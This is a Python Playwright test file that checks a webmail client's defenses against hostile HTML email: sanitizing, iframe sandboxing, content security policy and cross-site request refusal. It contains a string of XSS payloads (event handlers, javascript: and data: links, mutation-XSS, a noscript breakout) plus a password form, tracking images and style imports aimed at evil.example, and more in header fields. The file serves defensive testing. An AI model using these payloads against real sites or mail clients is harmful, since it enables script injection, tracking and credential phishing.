"""Hostile mail in the real page: nothing in it runs, nothing is fetched, nothing gets out of its frame."""

import base64

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Desk

pytestmark = pytest.mark.asyncio(loop_scope="session")

MALLORY = "Mallory <mallory@evil.example>"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
HOSTILE = """
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import url(https://evil.example/import.css);
body { background: url(https://evil.example/background.png) }</style><script>top.ran = "script"</script></head>
<body onload="top.ran='onload'" background="https://evil.example/body.png">
<p>Words that stay</p>
<img src="https://evil.example/pixel.png" onerror="top.ran='onerror'" srcset="https://evil.example/2x.png 2x">
<img src="x" onerror="top.ran='relative'"><svg onload="top.ran='svg'"><script>top.ran='svg script'</script></svg>
<svg><image href="https://evil.example/svg.png"/></svg><video poster="https://evil.example/poster.png" src="https://evil.example/v"></video>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/form"><input name="password"><button>Send</button></form>
<a href="javascript:top.ran='link'">javascript</a> <a href="data:text/html,<script>top.ran='data'</script>">data</a>
<a href="https://evil.example/page" ping="https://evil.example/ping">page</a>
<div style="position:fixed;inset:0;z-index:99999;background:red url(https://evil.example/cover.png)">covers the page</div>
<p style="font-family:x;background-image:url('https://evil.example/style.png')">styled</p>
<math><mtext><table><mglyph><style><img src=x onerror="top.ran='mutation'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.ran='noscript'>"></noscript>
</body></html>
"""


async def test_nothing_runs_and_nothing_is_fetched(desk: Desk) -> None:
    desk.arrive(MALLORY, "You have won", html=HOSTILE)
    await desk.open("You have won")
    frame = desk.page.frame_locator(".mail-frame")
    await expect(frame.locator("body")).to_contain_text("Words that stay")
    await expect(
        frame.locator("script, style + style, svg, iframe, object, embed, form, input, link, base, meta[http-equiv]")
    ).to_have_count(0)
    await expect(frame.locator("a[href]")).to_have_count(1)
    await frame.locator("a", has_text="javascript").click()
    await frame.locator("a", has_text="data").click()
    assert await desk.page.evaluate("window.ran") is None
    assert await frame.locator("div", has_text="covers the page").evaluate("node => getComputedStyle(node).position") == "static"
    assert not [address for address in desk.requests if "evil" in address]
    assert len(desk.page.context.pages) == 1


async def test_a_script_could_not_run_even_if_it_got_through(desk: Desk) -> None:
    """The frame's sandbox and policy hold on their own, without the cleaning before them."""
    desk.arrive(MALLORY, "Second line of defence", html="<p>harmless</p>")
    await desk.open("Second line of defence")
    body = desk.page.frame_locator(".mail-frame").locator("body")
    await expect(body).to_contain_text("harmless")
    await body.evaluate(
        """body => {
            const image = document.createElement("img");
            image.src = "https://evil.example/late.png";
            const script = document.createElement("script");
            script.textContent = "parent.ran = 'late'";
            body.append(image, script);
            body.insertAdjacentHTML("beforeend", "<b onclick=\\"parent.ran='click'\\">press</b>");
        }"""
    )
    await body.locator("b").click()
    assert await desk.page.evaluate("window.ran") is None
    assert not [address for address in desk.requests if "evil" in address]
    assert desk.complaints, "the browser says that it has refused"
    desk.complaints.clear()


async def test_pictures_of_the_mail_itself_are_shown_and_others_asked_for(desk: Desk) -> None:
    desk.arrive(MALLORY, "With pictures", html=f'<p>See <img id=a src="{PIXEL}"><img src="https://evil.example/far.png"></p>')
    await desk.open("With pictures")
    await expect(desk.page.get_by_role("button", name="Display images below")).to_be_visible()
    images = desk.page.frame_locator(".mail-frame").locator("img")
    assert await images.first.evaluate("node => node.naturalWidth") == 1
    assert not [address for address in desk.requests if "evil" in address]
    gif = base64.b64decode(PIXEL.partition(",")[2])
    await desk.page.context.route("https://evil.example/far.png", lambda route: route.fulfill(body=gif, content_type="image/gif"))
    async with desk.page.expect_response("https://evil.example/far.png"):
        await desk.page.get_by_role("button", name="Display images below").click()
    await expect(images.last).to_have_attribute("src", "https://evil.example/far.png")
    desk.requests.remove("https://evil.example/far.png")


async def test_ten_megabytes_of_nesting_open_at_once(desk: Desk) -> None:
    desk.arrive(MALLORY, "Deep as the sea", html="<div>" * 2_000_000 + "the ground")
    await desk.open("Deep as the sea")
    await expect(desk.page.frame_locator(".mail-frame").locator("body")).to_contain_text("nested too deep")


async def test_headers_are_text_and_never_markup(desk: Desk) -> None:
    desk.arrive('"<img src=x onerror=top.ran=1>" <x@evil.example>', "<script>top.ran=2</script> & more", "<b>plain</b> text")
    await desk.open("more")
    await expect(desk.page.locator(".thread-head h1")).to_have_text("<script>top.ran=2</script> & more")
    await expect(desk.page.locator(".plain")).to_contain_text("<b>plain</b> text")
    assert await desk.page.evaluate("window.ran") is None


async def test_another_sites_page_may_ask_the_desk_nothing(desk: Desk) -> None:
    request = desk.page.context.request
    address = f"{desk.demo.address}/desk/ada@corp.example/"
    assert (await request.get(f"{address}labels")).status == 200
    assert (await request.get(f"{address}labels", headers={"Sec-Fetch-Site": "cross-site"})).status == 403
    assert (await request.get(f"{address}labels", headers={"Host": "evil.example"})).status == 403
    foreign = await request.post(
        f"{address}job", data="{}", headers={"Content-Type": "application/json", "Origin": "https://evil.example"}
    )
    assert foreign.status == 403
    assert (await request.post(f"{address}job", form={"dry_run": "1"})).status == 415


async def test_the_pages_own_policy_is_strict(desk: Desk) -> None:
    policy = (await desk.page.context.request.get(desk.demo.address)).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
